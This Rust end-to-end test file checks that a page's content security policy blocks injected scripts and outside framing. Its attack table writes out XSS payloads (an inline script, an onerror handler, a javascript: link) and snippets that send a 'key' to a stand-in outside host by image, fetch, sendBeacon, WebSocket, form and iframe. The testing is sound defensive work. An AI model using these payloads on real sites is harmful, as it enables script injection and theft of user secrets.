//! What an injected script, another site or a frame around the page might try: the page's policy
//! stops each.

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use keyside_e2e::{
    browser::{Browser, Options},
    gateway::Gateway,
    page,
};

/// Another site; counts who comes.
struct Elsewhere {
    port: u16,
    visits: Arc<AtomicUsize>,
}

impl Elsewhere {
    /// Answers everybody with `html`.
    fn start(html: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let visits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&visits);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut request = [0; 4096];
                // Browsers open connections ahead of need: a visit is a request.
                if stream.read(&mut request).is_ok_and(|length| length > 0) {
                    counted.fetch_add(1, Ordering::SeqCst);
                    let _ = write!(
                        stream,
                        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n\
                         access-control-allow-origin: *\r\nconnection: close\r\n\r\n{html}",
                        html.len()
                    );
                }
            }
        });
        Self { port, visits }
    }
}

/// What is tried, and the directive that stops it, as the browser reports it.
const ATTACKS: [(&str, &str, &str); 10] = [
    (
        "an inline script",
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1';
         document.body.append(s);",
        "script-src-elem",
    ),
    (
        "a script from elsewhere",
        "const s = document.createElement('script'); s.src = ELSEWHERE;
         document.body.append(s);",
        "script-src-elem",
    ),
    (
        "an event handler in markup",
        "const d = document.createElement('div');
         d.innerHTML = '<img src=icon onerror=\"window.pwned = 1\">'; document.body.append(d);",
        "script-src-attr",
    ),
    (
        "a javascript: link",
        "const a = document.createElement('a'); a.href = 'javascript:window.pwned = 1';
         document.body.append(a); a.click();",
        "script-src-elem",
    ),
    (
        "an image as a beacon",
        "new Image().src = ELSEWHERE + '?key';",
        "img-src",
    ),
    (
        "a call to elsewhere",
        "fetch(ELSEWHERE, { method: 'POST', body: 'key' }).catch(() => {});",
        "connect-src",
    ),
    (
        "a beacon",
        "navigator.sendBeacon(ELSEWHERE, 'key');",
        "connect-src",
    ),
    (
        "a socket",
        "try { new WebSocket(ELSEWHERE.replace('http', 'ws')); } catch {}",
        "connect-src",
    ),
    (
        "a form to elsewhere",
        "const f = document.createElement('form'); f.action = ELSEWHERE; f.method = 'post';
         document.body.append(f); f.submit();",
        "form-action",
    ),
    (
        "a frame inside",
        "const f = document.createElement('iframe'); f.src = ELSEWHERE;
         document.body.append(f);",
        "frame-src",
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_an_injected_script_would_do_is_blocked_and_reported() {
    let gateway = Gateway::start();
    let elsewhere = Elsewhere::start("elsewhere".to_owned());
    let browser = page::connected(&gateway).await;
    page::generate(&browser).await;
    let url = format!("http://127.0.0.1:{}/", elsewhere.port);
    for (name, attack, directive) in ATTACKS {
        let attack = attack.replace("ELSEWHERE", &format!("{url:?}"));
        let report = browser
            .run_until_done(&format!(
                "const late = setTimeout(() => done('no report'), 5000);
                document.addEventListener('securitypolicyviolation', (event) => {{
                    clearTimeout(late);
                    done(event.effectiveDirective);
                }}, {{ once: true }});
                {attack}"
            ))
            .await;
        assert_eq!(report, directive, "{name}");
    }
    for text_as_code in ["eval('1')", "new Function('1')", "setTimeout('1')"] {
        // In a task of the page's own: the debugger's is excepted from the policy.
        let attack = format!(
            "document.addEventListener('securitypolicyviolation', (event) => {{
                done(event.effectiveDirective);
            }}, {{ once: true }});
            setTimeout(() => {{ {text_as_code}; }});"
        );
        let report = browser.run_until_done(&attack).await;
        assert_eq!(report, "script-src", "{text_as_code}");
    }
    assert_eq!(
        browser.run("return window.pwned ?? null").await,
        serde_json::Value::Null
    );
    assert_eq!(elsewhere.visits.load(Ordering::SeqCst), 0);
    // The page is still itself.
    browser.find("#fingerprint").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_other_site_can_put_the_page_in_a_frame() {
    let gateway = Gateway::start();
    let around = Elsewhere::start(format!(
        "<!doctype html><iframe id=inside src={:?}></iframe>",
        gateway.url()
    ));
    let browser = Browser::start(Options::default()).await;
    browser
        .open(&format!("http://127.0.0.1:{}/", around.port))
        .await;
    let frame = browser.find("#inside").await;
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    frame.enter_frame().await.unwrap();
    assert!(!browser.has("#page").await);
    assert!(!browser.has("#token").await);
    assert!(around.visits.load(Ordering::SeqCst) > 0);
}
